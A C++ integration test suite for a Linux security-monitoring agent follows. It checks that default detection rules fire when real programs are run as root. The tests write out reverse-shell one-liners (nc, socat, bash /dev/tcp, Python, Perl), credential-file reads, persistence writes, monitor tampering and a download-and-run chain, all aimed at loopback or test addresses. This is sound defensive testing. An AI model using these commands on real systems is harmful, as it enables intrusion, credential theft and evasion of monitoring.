// The default ruleset (config/rules) under the real agent: every rule is triggered by a real
// program run as root, and the test waits for the alert line in the agent's output and checks
// what it says (rule, severity, ATT&CK id, triggering event, process, evidence).
//
// Not here: kernel-module-load by syscall — this kernel has no CONFIG_MODULES, so neither the
// module syscalls nor their tracepoints exist, and no modprobe/insmod is installed; the rule is
// tested with a replayed event in tests/unit/detect/default_rules_test.cpp. The same holds for
// observe-only-account-package-manager and the service-account branch of
// service-account-interactive-shell, which need the inventory's service accounts.
#include <arpa/inet.h>
#include <fcntl.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <filesystem>

#include "agent_fixture.hpp"

namespace privwatch::itest {
namespace {

std::string pid_needle(uint32_t pid) { return fmt::format("\"pid\":{},", pid); }

// Removes a path (file) when the test ends, whatever happens.
struct RemoveOnExit {
  std::string path;
  ~RemoveOnExit() { ::unlink(path.c_str()); }
};

// An address outside every internal network (TEST-NET-2): the connect leaves by the default
// route; nobody answers, and the programs below give up after a second.
constexpr const char* kExternalIp = "198.51.100.7";

class RulesDefaultTest : public AgentSuite<RulesDefaultTest> {
 protected:
  // The alert of `rule` whose triggering (last) event came from process `pid`.
  static json wait_alert(const std::string& rule, uint32_t pid) {
    auto a = agent().wait_for(
        [&](const json& j) {
          return str(j, "event.kind") == "alert" && str(j, "rule.name") == rule &&
                 num(j, "privwatch.details.process.pid") == pid;
        },
        pid_needle(pid));
    EXPECT_TRUE(a.has_value()) << "no alert of rule " << rule << " for pid " << pid;
    return a.value_or(json());
  }

  // What every alert carries.
  static void expect_alert(const json& a, const std::string& severity, const std::string& mitre,
                           const std::string& user = "root") {
    if (a.is_null()) return;
    EXPECT_EQ(str(a, "privwatch.severity"), severity) << short_dump(a);
    EXPECT_EQ(str(a, "threat.technique.id"), mitre) << short_dump(a);
    EXPECT_EQ(str(a, "privwatch.source"), "rule");
    EXPECT_EQ(str(a, "user.name"), user);
    EXPECT_FALSE(str(a, "event.id").empty());
    EXPECT_FALSE(str(a, "message").empty());
    EXPECT_FALSE(str(a, "privwatch.explanation").empty());
    EXPECT_FALSE(str(a, "host.name").empty());
    EXPECT_FALSE(str(a, "@timestamp").empty());
    const json* ids = field(a, "privwatch.event_ids");
    ASSERT_NE(ids, nullptr) << short_dump(a);
    ASSERT_FALSE(ids->empty());
    // The last triggering event is in the output too, with that event id.
    EXPECT_EQ(ids->back().get<std::string>(),
              std::to_string(num(a, "privwatch.details.event.seq")));
  }

  static int run(const std::vector<std::string>& argv, const SpawnOptions& o = {}) {
    Child c = Child::exec(argv, o);
    return c.wait();
  }
  // Runs argv and returns the pid (after it exited).
  static uint32_t run_pid(const std::vector<std::string>& argv, const SpawnOptions& o = {}) {
    Child c = Child::exec(argv, o);
    const uint32_t pid = static_cast<uint32_t>(c.pid());
    c.wait();
    return pid;
  }
};

// --- execution ------------------------------------------------------------------------------

TEST_F(RulesDefaultTest, ReverseShellNetcat) {
  Listener l;
  // OpenBSD nc refuses -e, but the attempt is what the rule is about.
  const uint32_t pid =
      run_pid({"/usr/bin/nc", "-e", "/bin/sh", "127.0.0.1", std::to_string(l.port())});
  const json a = wait_alert("reverse-shell-netcat", pid);
  expect_alert(a, "critical", "T1059.004");
  EXPECT_NE(str(a, "message").find("-e /bin/sh 127.0.0.1"), std::string::npos) << short_dump(a);
  EXPECT_NE(str(a, "privwatch.explanation").find("process.name 'nc'"), std::string::npos);
  // The response settings of the rule travel with the alert.
  const json* actions = field(a, "privwatch.details.response.actions");
  ASSERT_NE(actions, nullptr);
  EXPECT_EQ(*actions, json::array({"warn", "terminate"}));
  EXPECT_EQ(str(a, "privwatch.details.response.mode"), "detect");
}

TEST_F(RulesDefaultTest, ReverseShellSocat) {
  Listener l;
  const uint32_t pid =
      run_pid({"/usr/bin/socat", fmt::format("TCP:127.0.0.1:{}", l.port()), "EXEC:/bin/true"});
  expect_alert(wait_alert("reverse-shell-socat", pid), "critical", "T1059.004");
}

TEST_F(RulesDefaultTest, ReverseShellBashDevTcp) {
  Listener l;
  const uint32_t pid = run_pid(
      {"/bin/bash", "-c", fmt::format("exec 3<>/dev/tcp/127.0.0.1/{}; echo hi >&3", l.port())});
  const json a = wait_alert("reverse-shell-dev-tcp", pid);
  expect_alert(a, "critical", "T1059.004");
  EXPECT_NE(str(a, "message").find(fmt::format("/dev/tcp/127.0.0.1/{}", l.port())),
            std::string::npos);
}

TEST_F(RulesDefaultTest, ReverseShellPythonOneLiner) {
  Listener l;
  const uint32_t pid = run_pid(
      {"/usr/bin/python3", "-c",
       fmt::format("import socket,os;s=socket.create_connection(('127.0.0.1',{}));"
                   "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execl('/bin/sh','sh','-c',"
                   "'exit 0')",
                   l.port())});
  expect_alert(wait_alert("reverse-shell-interpreter", pid), "critical", "T1059.006");
}

TEST_F(RulesDefaultTest, ReverseShellPerlOneLiner) {
  Listener l;
  const uint32_t pid =
      run_pid({"/usr/bin/perl", "-e",
               fmt::format("use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
                           "connect(S,sockaddr_in({},inet_aton('127.0.0.1')));open(STDIN,'>&S');"
                           "exec('/bin/true');",
                           l.port())});
  expect_alert(wait_alert("reverse-shell-interpreter", pid), "critical", "T1059.006");
}

TEST_F(RulesDefaultTest, ShellWithNetworkStdio) {
  Listener l;
  // python connects, puts the socket on stdin/stdout and becomes /bin/sh (same pid).
  const uint32_t pid = run_pid(
      {"/usr/bin/python3", "-c",
       fmt::format("import socket,os\ns=socket.create_connection(('127.0.0.1',{}))\n"
                   "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.execv('/bin/sh',['sh','-c',"
                   "'exit 0'])",
                   l.port())});
  const json a = wait_alert("shell-with-network-stdio", pid);
  expect_alert(a, "critical", "T1059.004");
  // Two triggering events: the connect and the exec of the shell.
  ASSERT_NE(field(a, "privwatch.event_ids"), nullptr);
  EXPECT_EQ(field(a, "privwatch.event_ids")->size(), 2u) << short_dump(a);
  EXPECT_NE(str(a, "privwatch.explanation").find("connect (event"), std::string::npos);
}

TEST_F(RulesDefaultTest, ExecFromMemfd) {
  const std::string token = unique_token();
  const uint32_t pid =
      run_pid({helper_path("fexec_helper"), "memfd", "/bin/true", token, "true", token});
  const json a = wait_alert("exec-from-memfd", pid);
  expect_alert(a, "high", "T1620");
  EXPECT_NE(str(a, "message").find(token), std::string::npos) << short_dump(a);
}

TEST_F(RulesDefaultTest, ExecOfDeletedFile) {
  TempDir dir;
  const std::string token = unique_token();
  const uint32_t pid =
      run_pid({helper_path("fexec_helper"), "deleted", "/bin/true", dir / "copy", "true", token});
  expect_alert(wait_alert("exec-of-deleted-file", pid), "high", "T1070.004");
}

TEST_F(RulesDefaultTest, SystemUserOpensAnInteractiveShell) {
  // uid 1 (daemon) is a system account: an interactive shell for it is suspicious.
  const uint32_t pid = run_pid({"/usr/bin/setpriv", "--reuid=1", "--regid=1", "--clear-groups",
                                "/bin/bash", "-i", "-c", "true"});
  const json a = wait_alert("service-account-interactive-shell", pid);
  expect_alert(a, "high", "T1059.004", user_name(1));
}

// --- credential access ----------------------------------------------------------------------

TEST_F(RulesDefaultTest, ReadShadow) {
  const uint32_t pid = run_pid({"/bin/cat", "/etc/shadow"}, {.capture_stdout = true});
  const json a = wait_alert("read-shadow", pid);
  expect_alert(a, "high", "T1003.008");
  EXPECT_EQ(str(a, "message"), "/etc/shadow read by /usr/bin/cat as root");
}

TEST_F(RulesDefaultTest, ReadSshPrivateKey) {
  TempDir home;
  std::filesystem::create_directories(home / ".ssh");
  write_file(home / ".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n", 0600);
  write_file(home / ".ssh/id_ed25519.pub", "ssh-ed25519 AAAA test\n");
  // The public key alone is no alert.
  const uint32_t pub =
      run_pid({"/bin/cat", home / ".ssh/id_ed25519.pub"}, {.capture_stdout = true});
  const uint32_t pid = run_pid({"/bin/cat", home / ".ssh/id_ed25519"}, {.capture_stdout = true});
  const json a = wait_alert("read-ssh-private-key", pid);
  expect_alert(a, "high", "T1552.004");
  EXPECT_NE(str(a, "message").find(home / ".ssh/id_ed25519"), std::string::npos);
  EXPECT_TRUE(agent()
                  .matching(
                      [&](const json& j) {
                        return str(j, "rule.name") == "read-ssh-private-key" &&
                               num(j, "privwatch.details.process.pid") == pub;
                      },
                      pid_needle(pub))
                  .empty());
}

TEST_F(RulesDefaultTest, ReadCloudCredentials) {
  TempDir home;
  std::filesystem::create_directories(home / ".aws");
  write_file(home / ".aws/credentials", "[default]\naws_access_key_id = AKIATEST\n", 0600);
  const uint32_t pid = run_pid({"/bin/cat", home / ".aws/credentials"}, {.capture_stdout = true});
  expect_alert(wait_alert("read-cloud-credentials", pid), "high", "T1552.001");
}

TEST_F(RulesDefaultTest, ReadKubernetesServiceAccountToken) {
  TempDir root;
  std::filesystem::create_directories(root / "secrets/kubernetes.io/serviceaccount");
  write_file(root / "secrets/kubernetes.io/serviceaccount/token", "eyJhbGciOi.test\n", 0600);
  const uint32_t pid = run_pid({"/bin/cat", root / "secrets/kubernetes.io/serviceaccount/token"},
                               {.capture_stdout = true});
  expect_alert(wait_alert("read-kubernetes-token", pid), "high", "T1528");
}

// --- persistence ----------------------------------------------------------------------------

TEST_F(RulesDefaultTest, PersistenceCron) {
  TempDir dir;
  write_file(dir / "job", "# privwatch test: never runs\n");
  RemoveOnExit rm{"/etc/cron.d/" + unique_token()};
  const uint32_t pid = run_pid({"/bin/cp", dir / "job", rm.path});
  const json a = wait_alert("persistence-cron", pid);
  expect_alert(a, "high", "T1053.003");
  EXPECT_NE(str(a, "message").find(rm.path), std::string::npos) << short_dump(a);
}

TEST_F(RulesDefaultTest, PersistenceSystemdUnit) {
  TempDir dir;
  write_file(dir / "unit", "# privwatch test: not a unit anybody loads\n");
  RemoveOnExit rm{"/etc/systemd/system/" + unique_token() + ".service"};
  const uint32_t pid = run_pid({"/bin/cp", dir / "unit", rm.path});
  expect_alert(wait_alert("persistence-systemd-unit", pid), "high", "T1543.002");
}

TEST_F(RulesDefaultTest, PersistenceShellProfile) {
  TempDir home;
  const uint32_t pid =
      run_pid({"/bin/sh", "-c", fmt::format("echo 'alias ls=true' >> {}", home / ".bashrc")});
  const json a = wait_alert("persistence-shell-profile", pid);
  expect_alert(a, "medium", "T1546.004");
  EXPECT_NE(str(a, "message").find(home / ".bashrc"), std::string::npos);
}

TEST_F(RulesDefaultTest, PersistenceAuthorizedKeys) {
  TempDir home;
  std::filesystem::create_directories(home / ".ssh");
  write_file(home / "key.pub", "ssh-ed25519 AAAA attacker\n");
  const uint32_t pid = run_pid({"/bin/cp", home / "key.pub", home / ".ssh/authorized_keys"});
  expect_alert(wait_alert("persistence-authorized-keys", pid), "high", "T1098.004");
}

TEST_F(RulesDefaultTest, PersistenceLdSoPreload) {
  // Opened for writing without O_CREAT and nothing written: harmless whether the file exists
  // (nothing is appended) or not (the open fails) — the attempt is what the rule reports.
  Child c = Child::run([] {
    const int fd = ::open("/etc/ld.so.preload", O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) ::close(fd);
    return 0;
  });
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  c.wait();
  const json a = wait_alert("persistence-ld-so-preload", pid);
  expect_alert(a, "critical", "T1574.006");
}

// --- privilege ------------------------------------------------------------------------------

TEST_F(RulesDefaultTest, SetuidFileCreated) {
  TempDir dir;
  ASSERT_EQ(run({"/bin/cp", "/bin/true", dir / "tool"}), 0);
  const uint32_t pid = run_pid({"/bin/chmod", "u+s", dir / "tool"});
  const json a = wait_alert("setuid-file-created", pid);
  expect_alert(a, "high", "T1548.001");
  EXPECT_NE(str(a, "message").find(dir / "tool"), std::string::npos);
}

TEST_F(RulesDefaultTest, FileCapabilitiesSet) {
  TempDir dir;
  ASSERT_EQ(run({"/bin/cp", "/bin/true", dir / "tool"}), 0);
  const uint32_t pid = run_pid({"/usr/sbin/setcap", "cap_net_raw+ep", dir / "tool"});
  expect_alert(wait_alert("file-capabilities-set", pid), "high", "T1548");
}

TEST_F(RulesDefaultTest, UserAccountCreatedAndDeleted) {
  const std::string name = "pw" + unique_token("").substr(0, 20);
  const uint32_t add = run_pid({"/usr/sbin/useradd", "-M", "-N", "-s", "/usr/sbin/nologin", name});
  const uint32_t del = run_pid({"/usr/sbin/userdel", name});
  const json a = wait_alert("user-account-change", add);
  expect_alert(a, "medium", "T1136.001");
  EXPECT_NE(str(a, "message").find(name), std::string::npos) << short_dump(a);
  expect_alert(wait_alert("user-account-change", del), "medium", "T1136.001");
}

TEST_F(RulesDefaultTest, SudoersChange) {
  TempDir dir;
  write_file(dir / "rule", "# privwatch test: no rule\n", 0440);
  RemoveOnExit rm{"/etc/sudoers.d/" + unique_token()};
  const uint32_t pid = run_pid({"/bin/cp", dir / "rule", rm.path});
  expect_alert(wait_alert("sudoers-change", pid), "high", "T1548.003");
}

// --- defense evasion ------------------------------------------------------------------------

TEST_F(RulesDefaultTest, HistoryClearing) {
  TempDir home;
  write_file(home / ".bash_history", "ls\ncat /etc/shadow\n", 0600);
  const uint32_t pid = run_pid({"/bin/rm", home / ".bash_history"});
  const json a = wait_alert("history-clearing", pid);
  expect_alert(a, "medium", "T1070.003");
  EXPECT_NE(str(a, "message").find("unlink " + home / ".bash_history"), std::string::npos)
      << short_dump(a);
}

TEST_F(RulesDefaultTest, LogTampering) {
  RemoveOnExit log{"/var/log/" + unique_token() + ".log"};
  write_file(log.path, "Nov 22 04:00:00 host sshd[1]: Accepted password for root\n");
  const uint32_t pid = run_pid({"/bin/rm", log.path});
  expect_alert(wait_alert("log-tampering", pid), "high", "T1070.002");
}

TEST_F(RulesDefaultTest, MonitorTamperingStopSignal) {
  const pid_t agent_pid = agent().pid();
  // Stops the agent and lets it continue at once: the events wait in the ring buffer.
  Child c = Child::run([agent_pid] {
    if (::kill(agent_pid, SIGSTOP) != 0) return 1;
    return ::kill(agent_pid, SIGCONT) == 0 ? 0 : 2;
  });
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  ASSERT_EQ(describe_status(c.wait()), "exit 0");
  const json a = wait_alert("monitor-tampering", pid);
  expect_alert(a, "critical", "T1562.001");
  EXPECT_NE(str(a, "message").find("SIGSTOP"), std::string::npos) << short_dump(a);
}

TEST_F(RulesDefaultTest, MonitorTamperingPtraceAttach) {
  const pid_t agent_pid = agent().pid();
  Child c = Child::run([agent_pid] {
    if (::ptrace(PTRACE_ATTACH, agent_pid, nullptr, nullptr) != 0) return 1;
    int st = 0;
    ::waitpid(agent_pid, &st, __WALL);
    return ::ptrace(PTRACE_DETACH, agent_pid, nullptr, nullptr) == 0 ? 0 : 2;
  });
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  ASSERT_EQ(describe_status(c.wait()), "exit 0");
  const json a = wait_alert("monitor-tampering", pid);
  expect_alert(a, "critical", "T1562.001");
  EXPECT_NE(str(a, "message").find("PTRACE_ATTACH"), std::string::npos) << short_dump(a);
}

TEST_F(RulesDefaultTest, MonitorTamperingKillByName) {
  // Signal 0 to processes named after a token: nothing is signalled, the intent is visible.
  const uint32_t pid = run_pid({"/usr/bin/pkill", "-0", "-f", "privwatch-agent-" + unique_token()});
  expect_alert(wait_alert("monitor-tampering", pid), "critical", "T1562.001");
}

// --- network and sequences ------------------------------------------------------------------

TEST_F(RulesDefaultTest, PrivilegedOutboundConnection) {
  const uint32_t pid = run_pid({"/usr/bin/nc", "-z", "-w", "1", kExternalIp, "9"});
  const json a = wait_alert("privileged-outbound-connection", pid);
  expect_alert(a, "medium", "T1071");
  EXPECT_NE(str(a, "message").find(std::string(kExternalIp) + ":9"), std::string::npos)
      << short_dump(a);
}

TEST_F(RulesDefaultTest, PrivilegedConnectionToLoopbackIsNoAlert) {
  Listener l;
  const uint32_t pid =
      run_pid({"/usr/bin/nc", "-z", "-w", "1", "127.0.0.1", std::to_string(l.port())});
  // The connect event is there; no alert of the rule follows it.
  ASSERT_TRUE(agent().wait_for(action_is("connect", pid), pid_needle(pid)));
  const std::string marker = unique_token();
  run({"/bin/true", marker});
  ASSERT_TRUE(agent().wait_for(
      [&](const json& j) {
        return str(j, "event.action") == "exec" && j.dump().find(marker) != std::string::npos;
      },
      marker));
  EXPECT_TRUE(agent()
                  .matching(
                      [&](const json& j) {
                        return str(j, "rule.name") == "privileged-outbound-connection" &&
                               num(j, "privwatch.details.process.pid") == pid;
                      },
                      pid_needle(pid))
                  .empty());
}

TEST_F(RulesDefaultTest, TmpScriptRunAsRootConnectsOut) {
  TempDir dir;
  write_file(dir / "update.sh",
             fmt::format("#!/bin/sh\nexec /usr/bin/nc -z -w 1 {} 443\n", kExternalIp), 0755);
  Child c = Child::exec({dir / "update.sh"});
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  c.wait();
  const json a = wait_alert("tmp-script-privileged-connect", pid);
  expect_alert(a, "high", "T1059.004");
  EXPECT_NE(str(a, "privwatch.explanation").find(dir / "update.sh"), std::string::npos)
      << short_dump(a);
  ASSERT_NE(field(a, "privwatch.event_ids"), nullptr) << short_dump(a);
  EXPECT_EQ(field(a, "privwatch.event_ids")->size(), 2u);
}

TEST_F(RulesDefaultTest, DropperChainDownloadInstallChmodRun) {
  RemoveOnExit bin{"/usr/local/bin/" + unique_token()};
  ASSERT_EQ(run({"/usr/bin/curl", "-s", "-o", bin.path, "file:///usr/bin/true"}), 0);
  ASSERT_EQ(run({"/bin/chmod", "755", bin.path}), 0);
  Child c = Child::exec({bin.path});
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  c.wait();
  const json a = wait_alert("dropper-chain", pid);
  expect_alert(a, "critical", "T1105");
  ASSERT_NE(field(a, "privwatch.event_ids"), nullptr) << short_dump(a);
  EXPECT_EQ(field(a, "privwatch.event_ids")->size(), 4u) << short_dump(a);
  const std::string why = str(a, "privwatch.explanation");
  EXPECT_NE(why.find("download (event"), std::string::npos) << why;
  EXPECT_NE(why.find("chmod-executable (event"), std::string::npos) << why;
  EXPECT_NE(str(a, "message").find(bin.path), std::string::npos);
}

TEST_F(RulesDefaultTest, WorldWritableWriteChmodExec) {
  TempDir dir;
  ASSERT_EQ(run({"/bin/cp", "/bin/true", dir / "payload"}), 0);
  ASSERT_EQ(run({"/bin/chmod", "700", dir / "payload"}), 0);
  Child c = Child::exec({dir / "payload"});
  const uint32_t pid = static_cast<uint32_t>(c.pid());
  c.wait();
  const json a = wait_alert("world-writable-write-chmod-exec", pid);
  expect_alert(a, "high", "T1105");
  ASSERT_NE(field(a, "privwatch.event_ids"), nullptr) << short_dump(a);
  EXPECT_EQ(field(a, "privwatch.event_ids")->size(), 3u) << short_dump(a);
}

TEST_F(RulesDefaultTest, SecretReadThenOutboundConnection) {
  TempDir home;
  std::filesystem::create_directories(home / ".aws");
  write_file(home / ".aws/credentials", "[default]\naws_secret_access_key = x\n", 0600);
  ASSERT_EQ(run({"/bin/cat", home / ".aws/credentials"}, {.capture_stdout = true}), 0);
  const uint32_t pid = run_pid({"/usr/bin/nc", "-z", "-w", "1", kExternalIp, "8443"});
  const json a = wait_alert("secret-read-then-outbound", pid);
  expect_alert(a, "high", "T1041");
  EXPECT_NE(str(a, "privwatch.explanation").find(home / ".aws/credentials"), std::string::npos);
}

}  // namespace
}  // namespace privwatch::itest
